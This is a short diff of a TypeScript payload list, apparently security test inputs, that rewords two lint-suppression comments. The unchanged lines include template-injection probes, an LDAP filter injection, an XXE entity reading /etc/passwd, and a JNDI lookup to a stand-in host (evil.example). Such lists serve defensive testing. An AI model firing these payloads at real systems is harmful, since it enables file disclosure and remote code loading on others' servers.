@@ -74,7 +74,7 @@ export const FOR_PROGRAMS: Record<string, readonly string[]> = {
     `<plaintext>`,
     `<!DOCTYPE html><html><body>`,
     '{{constructor.constructor("return 1")()}}',
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what it is about
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is a template expression on purpose
     '${7*7}',
     '#{7*7}',
     '<%= 7*7 %>',
@@ -195,7 +195,7 @@ export const FOR_PROGRAMS: Record<string, readonly string[]> = {
     '*)(uid=*))(|(uid=*',
     '<!ENTITY x SYSTEM "file:///etc/passwd">',
     '<?xml version="1.0"?>',
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what it is about
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is a template expression on purpose
     '${jndi:ldap://evil.example/x}',
   ],
   'path traversal': [
